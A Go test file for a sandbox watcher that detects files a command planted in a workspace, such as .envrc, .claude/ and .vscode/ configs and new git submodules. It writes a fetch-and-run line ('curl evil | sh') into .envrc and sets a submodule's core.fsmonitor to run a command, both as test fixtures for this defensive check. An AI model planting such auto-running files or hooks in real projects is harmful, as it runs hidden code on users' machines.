package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// A folder of the watched files flooded with files cannot hide a change
// to another watched file: each is watched in its own right.
func TestPlantedFloodHidesNoOtherFile(t *testing.T) {
	root := t.TempDir()
	var w Planted
	w.Ran(root)
	flood := filepath.Join(root, ".claude")
	if err := os.Mkdir(flood, 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range maxPlantedFiles + 1 {
		if err := os.WriteFile(filepath.Join(flood, strconv.Itoa(i)), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	changed, _ := w.Since(root)
	if !slices.Contains(changed, ".envrc") {
		t.Errorf("a planted .envrc is not named beside a flooded .claude/ (%d names)", len(changed))
	}
}

// The reason names a flooded folder once, with its count, and every other
// changed file by its name.
func TestPlantedReasonGroupsAFloodedFolder(t *testing.T) {
	changed := []string{".claude/a", ".claude/b", ".claude/c/d", ".claude/e", ".envrc", ".vscode/launch.json", ".vscode/tasks.json"}
	got := PlantedReason(changed)
	if !strings.Contains(got, ": .claude/ (4 files), .envrc, .vscode/launch.json, .vscode/tasks.json (") {
		t.Errorf("PlantedReason(%v) = %q, want .claude/ named once with its count", changed, got)
	}
}

// A submodule entry added to the index, with a repository where it
// points, is named: the user's git status would run git there, with
// the config the command wrote.
func TestPlantedNamesANewSubmodule(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git here")
	}
	root := t.TempDir()
	git := func(dir string, args ...string) string {
		t.Helper()
		out, err := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@t"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	git(root, "init", "-q")
	var w Planted
	w.Ran(root)
	evil := filepath.Join(root, "evil")
	git(root, "init", "-q", "evil")
	git(evil, "commit", "-q", "--allow-empty", "-m", "x")
	git(root, "update-index", "--add", "--cacheinfo", "160000,"+git(evil, "rev-parse", "HEAD")+",evil")
	git(evil, "config", "core.fsmonitor", "touch pwned; false")
	changed, _ := w.Since(root)
	if !slices.Contains(changed, "evil/.git") {
		t.Errorf("a submodule entry made with its repository is not named: %v", changed)
	}
}
